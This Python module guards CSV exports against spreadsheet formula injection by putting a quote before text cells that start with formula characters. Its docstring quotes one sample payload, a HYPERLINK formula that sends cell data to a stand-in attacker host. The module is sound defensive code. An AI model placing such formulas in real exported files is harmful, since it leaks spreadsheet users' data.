"""CSV that is safe to open in a spreadsheet: every CSV the project writes goes through
``csv_writer`` (a ``csv.DictWriter`` whose cells pass ``safe_cell``).

A cell a person typed (a reason, a note, a name) that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("https://evil.example/?"&A1, "open")``): formula injection. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection) is applied: such a text cell is
prefixed with a single quote, which spreadsheets show as text and a script can strip. Numbers
are written as they are (``-5`` stays a number); only text is changed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, TYPE_CHECKING, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would run as a formula,
    leading white space included (`` =1+1``, ``\n=1+1``, a no-break space: some importers
    trim it first)."""
    if isinstance(value, str) and (
        value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS)
    ):
        return "'" + value
    return value


if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]
else:  # not subscriptable at run time before Python 3.12
    _DictWriter = csv.DictWriter


class SafeDictWriter(_DictWriter):
    """A ``csv.DictWriter`` whose header and rows pass ``safe_cell``."""

    def writeheader(self) -> Any:
        return self.writer.writerow([safe_cell(name) for name in self.fieldnames])

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def csv_writer(stream: IO[str], fieldnames: Iterable[str], **options: Any) -> SafeDictWriter:
    """The one way the project writes CSV: a dict writer with formula-safe cells."""
    return SafeDictWriter(stream, fieldnames=list(fieldnames), **options)
